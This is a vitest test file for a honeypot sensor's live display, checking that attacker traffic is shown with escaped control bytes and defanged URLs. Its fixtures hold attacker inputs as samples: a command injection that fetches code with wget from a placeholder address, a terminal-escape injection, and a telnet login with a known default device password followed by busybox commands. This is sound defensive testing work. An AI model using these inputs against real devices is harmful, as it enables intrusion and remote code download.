import { describe, expect, it } from "vitest";
import { testSession } from "../capture/sensor/fixtures.js";
import type { RecordedConnection } from "../capture/sensor/recorder.js";
import { counterLine, liveLine } from "./sensor-live.js";

function rec(payload: string): RecordedConnection {
  const s = testSession(payload, {
    srcKey: 1,
    sport: 1,
    dstKey: 2,
    start: Date.UTC(2018, 5, 9, 5, 1, 2) * 1000,
  });
  return { persona: "uc-httpd", listenerPort: 8000, session: s, alerts: [], iocs: [] };
}

describe("sensor live view", () => {
  it("shows time, persona, source, port and the request line", () => {
    expect(liveLine(rec("POST /login.htm HTTP/1.1\r\n"), { defang: true })).toBe(
      '05:01:02 uc-httpd     198.51.100.7 -> :8000 "POST /login.htm HTTP/1.1"',
    );
  });

  it("escapes terminal control bytes and defangs URLs in attacker text", () => {
    const line = liveLine(rec("GET /x?u=http://198.51.100.9/r\x1b]0;pwned\x07 HTTP/1.1"), {
      defang: true,
    });
    expect(line).toContain("hxxp://198.51.100[.]9/r");
    expect(line).not.toContain("\x1b");
    expect(line).not.toContain("\x07");
    expect(line).toContain("\\x1b");
  });

  it("has no line for probes, and a counters line with the limits that hit", () => {
    expect(
      liveLine({ persona: "generic", listenerPort: 1, alerts: [], iocs: [] }, { defang: true }),
    ).toBeUndefined();
    const c = counterLine(new Date(Date.UTC(2026, 0, 1, 12, 0, 0)), {
      connections: 10,
      sessions: 4,
      probes: 6,
      alerts: 2,
      open: 1,
      refused: { idle: 3, per_source_rate: 0 },
      storedRows: 99,
      pendingBatches: 0,
      rssBytes: 64 * 2 ** 20,
    });
    expect(c).toBe(
      "12:00:00 -- connections=10 sessions=4 probes=6 alerts=2 open=1 stored-rows=99 rss=64MiB limits: idle=3",
    );
  });

  it("defangs a URL inside a URL-encoded command", () => {
    const line = liveLine(
      rec("GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/r%20-O HTTP/1.1"),
      {
        defang: true,
      },
    );
    expect(line).toContain("wget%20hxxp://198.51.100[.]7/r%20-O");
  });

  it("shows a telnet session's first login and its commands", () => {
    const r = rec("\xff\xfc\x01root\r\nxc3511\r\nsh\r\n");
    r.persona = "telnet";
    r.facts = {
      credentials: [{ user: "root", password: "xc3511", accepted: true }],
      commands: ["sh", "/bin/busybox ECCHI"],
    };
    expect(liveLine(r, { defang: true })).toContain(
      '"login root:xc3511 | sh; /bin/busybox ECCHI"  1 login',
    );
  });
});
